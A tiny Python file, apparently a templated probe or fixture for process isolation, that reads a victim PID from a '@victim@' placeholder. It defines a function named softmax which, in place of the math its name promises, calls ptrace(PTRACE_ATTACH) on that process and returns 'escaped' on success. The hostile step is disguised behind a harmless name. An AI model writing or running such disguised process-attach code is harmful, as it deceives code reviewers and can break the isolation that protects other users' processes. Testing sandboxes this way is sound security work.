"""Attaches to a process of the same user."""

import ctypes

VICTIM = int("@victim@")


def softmax(z, axis=-1):
    attach = 16
    return "escaped" if ctypes.CDLL(None).ptrace(attach, VICTIM, None, None) == 0 else z
